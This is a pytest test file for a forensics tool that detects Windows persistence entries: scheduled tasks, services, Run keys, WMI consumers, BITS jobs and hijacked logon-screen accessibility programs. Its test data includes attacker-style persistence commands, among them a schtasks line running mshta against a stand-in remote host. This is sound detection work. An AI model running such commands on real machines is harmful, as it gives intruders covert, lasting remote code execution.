"""Autostarts that a command line alone tells of, and what joins them."""

from __future__ import annotations

import time

import pytest

from forensics.sessions.persistence_commands import COMMANDED, commanded, words
from forensics.sessions.rows import Rows
from tests.sessions.factory import DEV, Scene, at

RUN = "Software\\Microsoft\\Windows\\CurrentVersion\\Run"
WMIC = 'wmic /namespace:"\\\\root\\subscription" PATH CommandLineEventConsumer CREATE '
TOOLS = {
    'schtasks.exe /Create /sc MINUTE /MO 60 /TN MS_ /TR "mshta.exe http://192.0.2.7/a" /F': (
        "scheduled_task", "\\MS_", "mshta.exe http://192.0.2.7/a",
    ),
    'cmd.exe /c schtasks.exe /create /sc minute /tn "A b" /tr "\\"C:\\x y\\a.exe\\" -k" & del z': (
        "scheduled_task", "\\A b", '"C:\\x y\\a.exe" -k',
    ),
    'sc create Upd binPath= "C:\\ProgramData\\u.exe -k" start= auto obj= LocalSystem': (
        "service", "Upd", "C:\\ProgramData\\u.exe -k",
    ),
    "sc.exe config Upd binpath=C:\\ProgramData\\u.exe": ("service", "Upd", "C:\\ProgramData\\u.exe"),
    f'reg add "HKCU\\{RUN}" /v Upd /t REG_SZ /d "C:\\Users\\Public\\u.exe" /f': (
        "run_key", "Upd", "C:\\Users\\Public\\u.exe",
    ),
    "REG ADD HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\RunOnce /d C:\\t\\u.exe /v Upd": (
        "run_key", "Upd", "C:\\t\\u.exe",
    ),
    "powershell New-Service -Name Upd -BinaryPathName \"C:\\t\\u.exe\" -StartupType Automatic": (
        "service", "Upd", "C:\\t\\u.exe",
    ),
    f'{WMIC}Name="Upd", CommandLineTemplate="C:\\t\\u.exe"': (
        "wmi", "Upd", "C:\\t\\u.exe",
    ),
}  # fmt: skip


@pytest.mark.parametrize("command", TOOLS)
def test_a_command_is_an_entry_that_says_so(command: str) -> None:
    scene = Scene()
    started = scene.process(5, "cmd.exe", command)
    (entry,) = scene.build().persistence
    assert (entry.mechanism, entry.name, entry.command) == TOOLS[command]
    assert entry.events == (started.id,)
    assert any("whether it succeeded is not known" in reason for reason in entry.reasons)
    assert entry.first_seen == at(5)


@pytest.mark.parametrize(
    "command",
    [
        "schtasks /query /tn A", "schtasks /delete /tn A /f", "schtasks /create /s srv1 /tn A /tr b", "sc query Upd",
        "sc \\\\srv1 create Upd binPath= b", "sc create Upd", "sc config Upd start= disabled", "reg add",
        "reg query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Upd",
        "reg add \\\\srv1\\HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d b",
        "reg add HKCU\\Software\\Vendor /v a /d b", "wmic process list", "New-Service -Name x",
        "wmic /node:srv1 PATH CommandLineEventConsumer CREATE Name=a, CommandLineTemplate=b", "echo schtasks",
        'wmic PATH CommandLineEventConsumer WHERE Name="a" DELETE', "schtasks /create /tn", "schtasks /create /tn \"",
    ],
)  # fmt: skip
def test_other_commands_are_none(command: str) -> None:
    scene = Scene()
    scene.process(5, "cmd.exe", command)
    assert scene.build().persistence == ()


def test_the_entry_that_is_there_is_joined_and_keeps_its_command() -> None:
    scene = Scene()
    made = scene.process(5, "schtasks.exe", 'schtasks /create /tn Upd /tr "C:\\t\\u.exe -k" /sc daily')
    registered = scene.add(
        "task.registered", 5.2, task_name="\\Upd", command_line="C:\\t\\u.exe -k", task_run_as="SYSTEM"
    )
    (entry,) = scene.build().persistence
    assert set(entry.events) == {made.id, registered.id}
    assert entry.user == "SYSTEM"
    assert any(reason.startswith("made by command: schtasks /create") for reason in entry.reasons)
    assert not any("is not known" in reason or "differs" in reason for reason in entry.reasons)


def test_a_value_that_sysmon_saw_is_the_same_entry() -> None:
    scene = Scene()
    run = f"HKU\\{DEV}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"
    scene.process(5, "reg.exe", "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v U /d C:\\t\\u.exe")
    scene.add("registry.value_set", 5.1, key_path=run, value_name="U", value_data="C:\\t\\u.exe")
    (entry,) = scene.build().persistence
    assert (len(entry.events), entry.command) == (2, "C:\\t\\u.exe")


def test_a_script_that_registers_a_task() -> None:
    scene = Scene()
    action = "$a = New-ScheduledTaskAction -Execute 'C:\\t\\u.exe' -Argument '-k'"
    text = f"{action}\nRegister-ScheduledTask -TaskName Upd -Action $a"
    scene.add("powershell.script_block", 5, script_text=text)
    (entry,) = scene.build().persistence
    assert (entry.mechanism, entry.name, entry.command) == ("scheduled_task", "\\Upd", "C:\\t\\u.exe -k")


def test_words_as_c_programs_read_them() -> None:
    assert words('a "b c" d"e f"g "h \\"i\\" j" & k') == ["a", "b c", "de fg", 'h "i" j']
    assert words("a 2>&1 b") == ["a"]
    assert words("") == []


def test_long_and_hostile_lines_take_no_time() -> None:
    begin = time.monotonic()
    for piece in ('"', '\\"', "\\", " /tn", "schtasks ", "reg add ", '="', "New-ScheduledTaskAction -Execute "):
        scene = Scene()
        for tool in ("schtasks /create ", "reg add ", "sc create a ", "wmic CommandLineEventConsumer create ",
                     "Register-ScheduledTask -TaskName a "):  # fmt: skip
            scene.process(1, "cmd.exe", tool + piece * 8000)
        for row in commanded(Rows(scene.events)):
            assert COMMANDED in row.fields
    assert time.monotonic() - begin < 10


def test_a_bits_job_of_two_logs_and_of_the_queue() -> None:
    scene = Scene()
    scene.add("bits.job", 1, bits_job="backdoor", bits_state="created", bits_owner="WS-1\\田中", user_name="田中")
    scene.add(
        "bits.transfer",
        2,
        bits_job="backdoor",
        bits_job_id="X",
        bits_state="started",
        url="C:\\Windows\\system32\\cmd.exe",
    )
    scene.add("bits.transfer", 3, bits_job="Font", bits_job_id="Y", bits_state="started", url="https://a.example/f")
    (entry,) = scene.build().persistence
    assert (entry.mechanism, entry.name, entry.command, len(entry.events)) == ("bits_job", "backdoor", None, 2)
    assert entry.score > 40
    scene.file(
        "autorun.configured", "C:/ProgramData/Microsoft/Network/Downloader/qmgr.db", {}, "offset 0x10",
        mechanism="bits_job", location="C:\\q", entry_name="backdoor", command_line="C:\\t\\u.exe", user_sid=DEV,
    )  # fmt: skip
    (entry,) = scene.build().persistence
    assert (entry.command, len(entry.events)) == ("C:\\t\\u.exe", 3)


def test_a_program_of_the_logon_screen_that_is_another() -> None:
    scene = Scene()
    scene.process(1, "osk.exe", original_file_name="osk.exe", file_description="Accessibility On-Screen Keyboard")
    assert scene.build().persistence == ()
    scene.process(2, "osk.exe", original_file_name="Cmd.Exe")
    scene.process(3, "sethc.exe", file_description="Windows Command Processor")
    entries = scene.build().persistence
    assert {(entry.name, entry.score > 40) for entry in entries} == {("osk.exe", True), ("sethc.exe", True)}


def test_a_program_elsewhere_is_of_the_logon_screen_only_where_that_started_it() -> None:
    scene = Scene()
    scene.process(2, "C:\\Users\\Public\\osk.exe", original_file_name="Cmd.Exe")
    assert scene.build().persistence == ()
    assert [finding.rule for finding in scene.build().findings] == ["logon_screen.name_borrowed"]
    utilman = "C:\\Windows\\System32\\Utilman.exe"
    scene.process(3, "C:\\osk.exe", file_description="Windows Command Processor", parent_executable=utilman)
    assert [entry.name for entry in scene.build().persistence] == ["osk.exe"]
    (told,) = (finding for finding in scene.build().findings if finding.rule == "logon_screen.replaced")
    assert told.level == "critical"
    assert "so its start was led elsewhere" in told.why
    assert "another program (Windows Command Processor)" in told.why
